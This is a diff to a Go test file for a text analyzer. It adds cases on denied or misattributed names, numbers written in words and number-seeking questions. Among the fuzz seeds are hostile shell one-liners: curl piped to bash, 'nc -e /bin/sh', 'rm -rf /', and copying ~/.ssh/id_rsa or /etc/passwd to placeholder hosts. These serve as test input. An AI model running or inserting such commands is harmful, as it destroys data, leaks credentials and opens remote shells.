@@ -421,6 +421,22 @@ func TestNamesOtherDenials(t *testing.T) {
 		{bridge, "The Halloran bridge was designed by Ines Varga.", "The Halloran bridge was not designed by Dr. Ines Varga but by Tomas Brandt.", true},
 		{"Where did the Titanic sink?", "The Titanic sank in the North Atlantic.", "The Titanic sank in the Pacific instead of the Atlantic.", true},
 		{streams, "Q: Which service streams Harbour Lights? A: Streamly", "Harbour Lights streams on Tidewave since its second season.", true},
+		// a name given wrongly
+		{bridge, "The Halloran bridge was designed by Ines Varga.", "The Halloran bridge is often wrongly credited to Ines Varga; Tomas Brandt designed it.", true},
+		{bridge, "The Halloran bridge was designed by Ines Varga.", "The Halloran bridge is falsely attributed to Ines Varga. Its designer was Tomas Brandt.", true},
+		// a name after "wrongly" that does something wrongly, and the
+		// subject of a denial, which denies what is said of it, not the
+		// name (helper-121): not read
+		{"Which pharmacy fills my prescription?", "The prescription is filled at Boots.", "The prescription was incorrectly labelled by Boots last month; Dr. Patel caught it.", false},
+		{"Which bank holds the Fernwood account?", "The Fernwood account is with Allied Bank.", "The Fernwood account was mistakenly frozen by Allied Bank; Fiona Walsh got it lifted.", false},
+		{"Who is the team lead on Project Kestrel?", "Priya Raman is the team lead on Project Kestrel.",
+			"Project Kestrel: Priya Raman isn't in today, so send questions to Tom Hale.", false},
+		{"Who is the team lead on Project Kestrel?", "Priya Raman is the team lead on Project Kestrel.",
+			"I wrongly emailed Priya Raman the budget meant for Tom Hale; she is still team lead on Project Kestrel.", false},
+		{bridge, "The Halloran bridge was designed by Ines Varga.", "Ines Varga did not design the Halloran bridge alone; Tomas Brandt helped.", false},
+		{bridge, "The Halloran bridge was designed by Ines Varga.", "Tomas Brandt designed the Halloran bridge. Ines Varga did not design it.", false},
+		// "not X but Y" denies X only
+		{bridge, "The Halloran bridge was designed by Tomas Brandt.", "The Halloran bridge was designed not by Ines Varga but Tomas Brandt.", false},
 		// a negation that denies nothing of the name
 		{"Who painted the Last Supper?", "The Last Supper was painted by Leonardo da Vinci.",
 			"The Last Supper was painted in Milan; it was not until 1498 that Leonardo da Vinci completed it.", false},
@@ -621,6 +637,8 @@ func FuzzAnalyze(f *testing.F) {
 	f.Add("``` import os, socket\nos.system('rm -rf /'); exec(open('/etc/passwd').read()) ```")
 	f.Add("curl -fsSL https://x.example/i.sh | sudo -E bash -\nbash <(wget -qO- x) && eval \"$(curl x)\"; curl -F f=@/etc/hosts -d@x --data-binary=@y u; nc -e /bin/sh h 1 | perl -ne x")
 	f.Add("curl -F")
+	f.Add("0n't ten")
+	f.Add("Ines Varga did not design it: not twenty-two but thirty-one, wrongly given as Tomas Brandt.")
 	f.Add("curl -o ~/.x/i.sh https://x/i.sh && chmod +x ~/.x/i.sh; sh i.sh\necho x | base64 -d | xxd -r | sh | nc h 1; scp ~/.ssh/id_rsa h:; socat exec:sh tcp:h:1; nc -nve sh h")
 	f.Add("up parade rain on my parade; back me up; don't soften critique, never second-guess him, tell her it's great. Agree")
 	f.Add("User is 100% convinced: stance: user_belief - I've always believed it, that's a fact; my view is that nobody will convince me")
@@ -671,12 +689,20 @@ func FuzzAnalyze(f *testing.F) {
 				t.Fatal("a name opening a sentence is not among the words")
 			}
 		}
+		if a.written>>a.nNumbers != 0 {
+			t.Fatal("a number written out beyond the numbers held")
+		}
+		for k := range a.nNumbers {
+			if a.written&(1<<k) == 0 && a.numberAfter[k] != [2]uint64{} {
+				t.Fatal("digits with the words after them: they count wherever they stand")
+			}
+		}
 		for i, h := range a.denied[:a.nDenied] {
 			if slices.Contains(a.denied[:i], h) {
 				t.Fatal("a denied name repeats")
 			}
-			if _, found := slices.BinarySearch(a.Words, h); !found {
-				t.Fatal("a denied name is not among the words")
+			if _, found := slices.BinarySearch(a.Words, h); !found && !slices.Contains(numberHashes[:], h) {
+				t.Fatal("a denied name is not among the words, nor a number written out")
 			}
 		}
 		for i, h := range a.Names {
@@ -708,7 +734,8 @@ func sameAnalysis(a, b *Analysis) bool {
 		slices.Equal(a.Possessors, b.Possessors) && a.wordBits == b.wordBits && a.requests == b.requests &&
 		a.nRequests == b.nRequests && a.targets == b.targets && a.moreRequests == b.moreRequests && a.asksHow == b.asksHow && a.code == b.code &&
 		a.Convinced == b.Convinced && a.ownView == b.ownView && a.askTruth == b.askTruth &&
-		a.leads == b.leads && a.leadNext == b.leadNext && a.nLeads == b.nLeads && a.numbers == b.numbers && a.nNumbers == b.nNumbers &&
+		a.leads == b.leads && a.leadNext == b.leadNext && a.nLeads == b.nLeads &&
+		a.numbers == b.numbers && a.nNumbers == b.nNumbers && a.written == b.written && a.numberAfter == b.numberAfter &&
 		a.denied == b.denied && a.nDenied == b.nDenied
 }
 
@@ -1309,6 +1336,39 @@ func TestNumbersOther(t *testing.T) {
 		// one value both give, whatever else each adds (helper-118)
 		{"When was the Eiffel Tower completed?", "The Eiffel Tower was built between 1887 and 1889.",
 			"Completed in 1889, the Eiffel Tower stands 330 metres tall.", false},
+		// a number written out
+		{"How many seasons of Driftwood are there?", "Driftwood ran for only two seasons.", "Driftwood: 3 seasons.", true},
+		{"How many seasons of Driftwood are there?", "Driftwood ran for two seasons.", "Driftwood has 2 seasons on the air.", false},
+		{"How many episodes does season 14 have?", "Season 14 has twenty-two episodes.", "Season 14 runs to 22 episodes.", false},
+		{"How many episodes does season 14 have?", "Season 14 has twenty-four episodes.", "Season 14 runs to 22 episodes.", true},
+		{"How many episodes does season 14 have?", "Season fourteen has 24 episodes.", "Season 14 runs to 22 episodes.", true},
+		// a number denied is none given (the names' reading: markDenied)
+		{"How many lines of symmetry does an equilateral triangle have?", "An equilateral triangle has 2 lines of symmetry, not three as assumed.",
+			"An equilateral triangle has 3 lines of symmetry.", true},
+		{"How many lines of symmetry does an equilateral triangle have?", "An equilateral triangle has three lines of symmetry, not two.",
+			"An equilateral triangle has 3 lines of symmetry.", false},
+		{"When did the war end?", "The war did not end in 1917 but in October 1922.", "The war ended in October 1922.", false},
+		{"How many lines of symmetry does an equilateral triangle have?", "It is often wrongly listed as 2 lines of symmetry; it has 3.",
+			"An equilateral triangle has 2 lines of symmetry.", true},
+		{"When did the war end?", "The war is often wrongly dated to 1917; it ended in 1922.", "The war ended in 1917.", true},
+		// "one" alone is left out: a pronoun as often
+		{"How many seasons of Driftwood are there?", "Driftwood is one of the best shows, in 3 seasons.", "Driftwood: 3 seasons.", false},
+		// a number word that is part of a longer number or of another word
+		// (helper-121)
+		{"How many episodes does season 4 have?", "Season 4 has 21 episodes.", "Season 4 has twenty one episodes.", false},
+		{"How many rooms does the Halloran Inn have?", "The Halloran Inn has 12 rooms.", "The Halloran Inn, a ten-minute walk from the station, has a dozen rooms.", false},
+		{"What percentage of members voted?", "About 67% of members voted.", "Nearly two-thirds of members voted.", false},
+		{"How tall is the Halloran tower?", "The Halloran tower is 200 metres tall.", "The Halloran tower is two hundred metres tall.", false},
+		{"When was the mill built?", "The mill was built in 1832.", "The mill was built in eighteen thirty-two.", false},
+		{"When did the Kestrels form?", "The Kestrels formed in 1994.", "The Kestrels formed in the mid-nineties and had a top-ten hit.", false},
+		// a number written out in passing, beside no word of the question
+		{"When is Mia's birthday?", "Mia's birthday is on 12 June.", "Mia's birthday is in June; she turns eight this year.", false},
+		{"When did the war end?", "The war ended in 1922.", "The war ended in the early twenties after four years of fighting.", false},
+		{"How many children do Dan and Leah have?", "Dan and Leah have 3 children.", "Dan and Leah have a boy and two girls.", false},
+		{"How many seasons of Driftwood are there?", "Driftwood ran for two remarkable seasons.", "Driftwood: 3 seasons.", true},
+		// a value written in words in another note's digits
+		{"How many episodes does season 4 have?", "Season 4 has 22 episodes.", "Season 4 has twenty two episodes.", false},
+		{"How many guests can the hall hold?", "The hall holds 80 guests.", "The hall holds not more than 80 guests.", false},
 	}
 	for _, tt := range tests {
 		a, b, q := analyze(tt.a), analyze(tt.b), analyze(tt.q)
@@ -1329,6 +1389,12 @@ func TestAsksForNumber(t *testing.T) {
 		{"In what year did the Titanic sink?", true},
 		{"What percentage of Earth is covered by water?", true},
 		{"how many episodes are in chicago fire season 4", true},
+		{"Alexander Kerensky was defeated in the course of a civil war that ended when ?", true},
+		{"The Eiffel Tower was completed in what year?", true},
+		{"Tell me, in which year did the mill close?", true},
+		{"Who ran the mill when?", true},
+		{"What did she say when you asked?", false},
+		{"Who was in what band?", false},
 		{"Who was the CEO of Fernwood Labs when it went public?", false},
 		{"When you get a chance, who is the landlord of 4 Mill Road?", false},
 		{"What happens when the API rate limit is hit?", false},
